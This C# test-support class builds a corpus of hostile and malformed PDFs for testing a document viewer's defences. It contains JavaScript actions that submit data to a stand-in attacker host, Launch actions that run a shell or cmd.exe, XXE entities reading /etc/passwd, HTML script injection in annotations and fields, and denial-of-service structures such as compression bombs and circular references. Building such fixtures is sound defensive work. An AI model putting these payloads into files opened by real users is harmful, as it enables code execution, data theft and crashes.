using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace CommitteeHub.Tests.Support;

/// <summary>Small PDFs with one trick each. Those that a reader can open say <see cref="Words"/> on their first page; a script in any of them would set <see cref="HostilePdf.Canary"/> or ask evil.example.</summary>
public static class HostilePdfs
{
    public const string Words = "What a hostile page says";
    private const string Js = "window.__pwned = 1; app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/steal'\\);";
    private const string Content = "BT /F1 24 Tf 72 720 Td (" + Words + ") Tj ET";
    private const string Script = $"<< /S /JavaScript /JS ({Js}) >>";
    private const string Html = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>";

    public static IReadOnlyDictionary<string, byte[]> All { get; } = new SortedDictionary<string, byte[]>(StringComparer.Ordinal)
    {
        // What happens when it opens, is shown, printed, left.
        ["open-javascript"] = Page(catalog: $"/OpenAction {Script}"),
        ["open-launch"] = Page(catalog: "/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        ["open-uri"] = Page(catalog: "/OpenAction << /S /URI /URI (https://evil.example/open) >>"),
        ["open-gotor"] = Page(catalog: "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\other.pdf) /D [0 /Fit] >>"),
        ["open-gotoe"] = Page(catalog: "/OpenAction << /S /GoToE /F (https://evil.example/e.pdf) /D [0 /Fit] /T << /R /C /N (evil) >> >>"),
        ["open-submit"] = Page(catalog: "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> /Flags 4 >>"),
        ["open-import"] = Page(catalog: "/OpenAction << /S /ImportData /F (/etc/passwd) >>"),
        ["open-named"] = Page(catalog: "/OpenAction << /S /Named /N /Print >>"),
        ["open-chain"] = Page(catalog: $"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next [6 0 R << /S /URI /URI (https://evil.example/chain) >>] >>", more: Script),
        ["open-endless-chain"] = Page(catalog: "/OpenAction 6 0 R", more: "<< /S /Named /N /NextPage /Next 6 0 R >>"),
        ["catalog-events"] = Page(catalog: $"/AA << /WC {Script} /WS {Script} /DS {Script} /WP {Script} /DP {Script} >>"),
        ["page-events"] = Page(page: $"/AA << /O {Script} /C {Script} >>"),
        ["names-javascript"] = Page(catalog: $"/Names << /JavaScript << /Names [(a) {Script} (b) {Script}] >> >>"),
        ["names-endless-tree"] = Page(catalog: "/Names << /JavaScript 6 0 R /Dests 6 0 R /EmbeddedFiles 6 0 R >>", more: "<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"),
        // What lies on the page.
        ["annotation-address"] = Annotated("/Subtype /Link /A << /S /URI /URI (https://evil.example/link) >>"),
        ["annotation-javascript"] = Annotated($"/Subtype /Link /A {Script}"),
        ["annotation-javascript-address"] = Annotated("/Subtype /Link /A << /S /URI /URI (javascript:window.__pwned=1) >>"),
        ["annotation-data-address"] = Annotated("/Subtype /Link /A << /S /URI /URI (data:text/html,<script>window.__pwned=1</script>) >>"),
        ["annotation-launch"] = Annotated("/Subtype /Link /A << /S /Launch /F (../../../../bin/sh) >>"),
        ["annotation-html"] = Annotated($"/Subtype /Text /Open true /T ({Html}) /Contents ({Html}) /RC (<body xmlns='http://www.w3.org/1999/xhtml'>{Html}</body>)"),
        ["annotation-free-text"] = Annotated($"/Subtype /FreeText /DA (/F1 12 Tf) /Contents ({Html}) /DS (font: 12pt \\(url\\('https://evil.example/f'\\)\\))"),
        ["annotation-file"] = Annotated("/Subtype /FileAttachment /FS 7 0 R /Contents (open me)", "<< /Type /Filespec /F (../../evil.html) /UF (../../evil.html) /EF << /F 8 0 R >> >>", Stream("/Type /EmbeddedFile", Html)),
        ["annotation-rich-media"] = Annotated("/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 7 0 R] >> >>", "<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>", Stream("/Type /EmbeddedFile", "FWS garbage")),
        ["annotation-3d"] = Annotated("/Subtype /3D /3DD 7 0 R /3DA << /A /PO >>", Stream("/Type /3D /Subtype /U3D /OnInstantiate 8 0 R", "U3D garbage"), Stream("", "window.__pwned = 1")),
        ["annotation-movie"] = Annotated("/Subtype /Movie /Movie << /F (https://evil.example/m.mp4) /Poster true >> /A true"),
        ["annotation-screen"] = Annotated("/Subtype /Screen /A << /S /Rendition /OP 0 /JS (window.__pwned = 1) /R << /S /MR /C << /S /MCD /CT (video/mp4) /D (https://evil.example/m.mp4) >> >> >>"),
        ["annotation-endless-popup"] = Annotated("/Subtype /Text /Popup 6 0 R /Parent 6 0 R /IRT 6 0 R /Contents (round)"),
        ["field-javascript"] = Form($"/FT /Tx /T (a) /V (v) /AA << /K {Script} /F {Script} /V {Script} /C {Script} /Fo {Script} >>"),
        ["field-submit"] = Form("/FT /Btn /Ff 65536 /T (b) /MK << /CA (Save) >> /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/f) >> >>"),
        ["field-html-value"] = Form($"/FT /Tx /T ({Html}) /TU ({Html}) /V ({Html}) /DA (/F1 12 Tf 0 g)"),
        ["field-endless-kids"] = Form("/FT /Tx /T (c) /Kids [6 0 R] /Parent 6 0 R"),
        ["xfa"] = Page(catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>", more: Stream("", "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><subform><event activity='initialize'><script contentType='application/x-javascript'>window.__pwned = 1</script></event></subform></template></xdp:xdp>")),
        ["xfa-entities"] = Page(catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>", more: Stream("", "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'><!ENTITY p SYSTEM 'file:///etc/passwd'>]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&b;&p;</xdp:xdp>")),
        // What stands beside it.
        ["outline-javascript"] = Page(catalog: "/PageMode /UseOutlines /Outlines 6 0 R", more: ["<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", $"<< /Title ({Html}) /Parent 6 0 R /A {Script} >>"]),
        ["outline-endless"] = Page(catalog: "/Outlines 6 0 R", more: ["<< /Type /Outlines /First 7 0 R /Last 7 0 R >>", "<< /Title (round) /Parent 7 0 R /First 7 0 R /Next 7 0 R /Prev 7 0 R /Dest [4 0 R /Fit] >>"]),
        ["page-labels-html"] = Page(catalog: $"/PageLabels << /Nums [0 << /P ({Html}) /S /D /St 999999999 >>] >>"),
        ["metadata-entities"] = Page(catalog: "/Metadata 6 0 R", more: Stream("/Type /Metadata /Subtype /XML", "<!DOCTYPE x [<!ENTITY p SYSTEM 'file:///etc/passwd'>]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&p;" + Html + "</x:xmpmeta>")),
        ["embedded-files"] = Page(catalog: "/PageMode /UseAttachments /Names << /EmbeddedFiles << /Names [(evil.html) 6 0 R] >> >> /Collection << /View /T >>", more: ["<< /Type /Filespec /F (evil.html) /EF << /F 7 0 R >> >>", Stream("/Type /EmbeddedFile", Html)]),
        ["layers-endless"] = Page(catalog: "/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R [6 0 R]] /ON [6 0 R] /AS [<< /Event /View /OCGs [6 0 R] >>] >> >>", more: $"<< /Type /OCG /Name ({Html}) /Usage << /CreatorInfo << /Creator (x) >> >> >>"),
        ["structure-endless"] = Page(catalog: "/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R", more: ["<< /Type /StructTreeRoot /K 7 0 R /ParentTree << /Nums [0 [7 0 R]] >> >>", "<< /Type /StructElem /S /P /P 7 0 R /K [7 0 R] >>"]),
        // How it is put together.
        ["pages-in-a-circle"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]),
        ["count-lies"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count -7 >>", Font, PageObject(""), Stream("", Content)]),
        ["xref-in-a-circle"] = Text(Page()).Replace("/Root 1 0 R", "/Prev 0 /Root 1 0 R", StringComparison.Ordinal) is var circle ? Bytes(circle.Replace("/Prev 0 ", $"/Prev {circle.LastIndexOf("xref\n0", StringComparison.Ordinal).ToString(CultureInfo.InvariantCulture)} ", StringComparison.Ordinal)) : [],
        ["xref-elsewhere"] = Bytes(Text(Page())[..Text(Page()).LastIndexOf("startxref", StringComparison.Ordinal)] + "startxref\n999999999999\n%%EOF"),
        ["length-negative"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject(""), $"<< /Length -1 >>\nstream\n{Content}\nendstream"]),
        ["length-huge"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject(""), $"<< /Length 9007199254740993 >>\nstream\n{Content}\nendstream"]),
        ["length-of-itself"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject(""), $"<< /Length 5 0 R >>\nstream\n{Content}\nendstream"]),
        ["object-streams-in-a-circle"] = Page(catalog: "/Extensions 99 0 R", more: [Stream("/Type /ObjStm /N 1 /First 4 /Extends 6 0 R", "7 0 << /A 7 0 R >>"), "6 0 R"]),
        ["filters-in-a-chain"] = Drawn(Stream($"/Filter [{string.Concat(Enumerable.Repeat("/ASCIIHexDecode ", 400))}]", "41>")),
        ["filter-unknown"] = Drawn(Stream("/Filter [/Crypt /Evil /FlateDecode] /DecodeParms [<< /Name /Evil >> null << /Predictor 99 /Columns -5 >>]", "garbage")),
        ["packed-forty-times"] = Drawn(Stream("/Filter [/FlateDecode /FlateDecode]", Packed(Packed(new string('0', 8 << 20))))),
        ["picture-jbig2"] = Picture("/Filter /JBIG2Decode", "\u0097JB2\r\n\u001a\ngarbage" + new string('\u00ff', 200)),
        ["picture-jpx"] = Picture("/Filter /JPXDecode", "\0\0\0\fjP  \r\n\u0087\ngarbage" + new string('\u00ff', 200)),
        ["picture-jpeg"] = Picture("/Filter /DCTDecode", "\u00ff\u00d8\u00ff\u00c0\0\u0011\b\u00ff\u00ff\u00ff\u00ff\u0003garbage"),
        ["picture-fax"] = Picture("/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>", new string('\u00aa', 500)),
        ["font-that-is-a-script"] = Fonted("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.001 0 0 0.001 0 (0\\); window.__pwned = 1; //)] >>"),
        ["font-broken-program"] = Fonted("<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 0 /LastChar 255 /Widths [1] /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 6 0 R >> >>", Stream("", "\0\u0001\0\0\0\u00ffglyf" + new string('\u00ff', 300))),
        ["font-character-map-endless"] = Fonted("<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding 6 0 R /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil >>] >>", Stream("/Type /CMap /CMapName /Evil /UseCMap 6 0 R", "1 begincidrange <00000000> <ffffffff> 0 endcidrange 1 beginbfrange <0000> <ffffffff> <0041> endbfrange")),
        ["font-type3-in-a-circle"] = Fonted("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 122 /Widths [1] /Encoding << /Differences [65 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 3 0 R >> >> >>", Stream("", "BT /F1 1 Tf (AAAA) Tj ET")),
        ["form-in-a-circle"] = Drawn(Stream("", Content + " /X Do"), "/XObject << /X 6 0 R >>", Stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>", "/X Do /X Do")),
        ["pattern-in-a-circle"] = Drawn(Stream("", Content + " /Pattern cs /P scn 0 0 500 500 re f"), "/Pattern << /P 6 0 R >>", Stream("/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.00001 /YStep 0.00001 /Resources << /Pattern << /P 6 0 R >> >>", "/Pattern cs /P scn 0 0 1 1 re f")),
        ["shading-postscript"] = Drawn(Stream("", Content + " /S sh"), "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 6 0 R >> >>", Stream("/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]", "{ " + string.Concat(Enumerable.Repeat("dup exp ", 2000)) + string.Concat(Enumerable.Repeat("{ ", 500)) + "}")),
        ["states-without-end"] = Drawn(Stream("", string.Concat(Enumerable.Repeat("q ", 100_000)) + Content)),
        ["numbers-that-are-none"] = Drawn(Stream("", "1e400 -1e400 99999999999999999999 0 0 NaN cm Q Q Q 1 0 0 1 --5 +-.5 cm " + Content)),
        ["page-huge"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject("").Replace("[0 0 595 842]", "[-1e9 -1e9 1e9 1e9] /UserUnit 1e6 /Rotate 12345", StringComparison.Ordinal), Stream("", Content)]),
        ["page-without-size"] = TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject("").Replace("[0 0 595 842]", "[(a) null /b]", StringComparison.Ordinal), Stream("", Content)]),
        ["locked-with-nothing"] = Bytes(Text(Page()).Replace("/Root 1 0 R", "/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <" + new string('0', 64) + "> /U <" + new string('0', 64) + "> /P -4 >>", StringComparison.Ordinal)),
        ["locked-by-a-stranger"] = Bytes(Text(Page()).Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Evil /V 99 /R 99 /CF << /StdCF << /CFM /Evil /Length 99999 >> >> /StmF /StdCF >>", StringComparison.Ordinal)),
        ["changed-afterwards"] = Bytes(Text(Page()) + $"5 0 obj\n{Stream("", Content.Replace("72 720", "72 500", StringComparison.Ordinal))}\nendobj\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {Script} >>\nendobj\ntrailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"),
        ["cut-in-the-middle"] = Page()[..(Page().Length / 2)],
        ["nothing-but-a-name"] = "%PDF-1.7\n"u8.ToArray(),
        ["web-page-as-well"] = [.. "%PDF-1.7\n"u8, .. Encoding.ASCII.GetBytes($"<html>{Html}</html>\n"), .. Page()],
        ["name-endless"] = Page(catalog: "/" + new string('A', 200_000) + " 1"),
        ["text-endless"] = Drawn(Stream("", $"BT /F1 24 Tf 72 720 Td ({Words}) Tj ({new string('a', 300_000)}) Tj ET")),
    };

    private const string Font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";

    private static string PageObject(string more, string resources = "") => $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> {resources} >> /Contents 5 0 R {more} >>";

    private static byte[] Page(string catalog = "", string page = "", params string[] more) =>
        TinyPdf.Of([$"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject(page), Stream("", Content), .. more]);

    private static byte[] Page(string catalog, string more) => Page(catalog, "", more);

    private static byte[] Page(string catalog, string[] more) => Page(catalog, "", more);

    private static byte[] Annotated(string annotation, params string[] more) => Page("", "/Annots [6 0 R]", [$"<< /Type /Annot /Rect [72 600 300 640] {annotation} >>", .. more]);

    private static byte[] Form(string field) => Page("/AcroForm << /Fields [6 0 R] /NeedAppearances true >>", "/Annots [6 0 R]", $"<< /Type /Annot /Subtype /Widget /Rect [72 600 300 640] {field} >>");

    private static byte[] Drawn(string drawing, string resources = "", params string[] more) =>
        TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", Font, PageObject("", resources), drawing, .. more]);

    private static byte[] Fonted(string font, params string[] more) =>
        TinyPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", font, PageObject(""), Stream("", Content), .. more]);

    private static byte[] Picture(string head, string data) =>
        Drawn(Stream("", Content + " q 300 0 0 300 72 200 cm /I Do Q"), "/XObject << /I 6 0 R >>", Stream($"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 {head}", data));

    private static string Stream(string head, string content) => $"<< {head} /Length {content.Length} >>\nstream\n{content}\nendstream";

    private static string Packed(string content)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest)) zlib.Write(Bytes(content));
        return Text(packed.ToArray());
    }

    private static string Text(byte[] bytes) => Encoding.Latin1.GetString(bytes);

    private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);
}
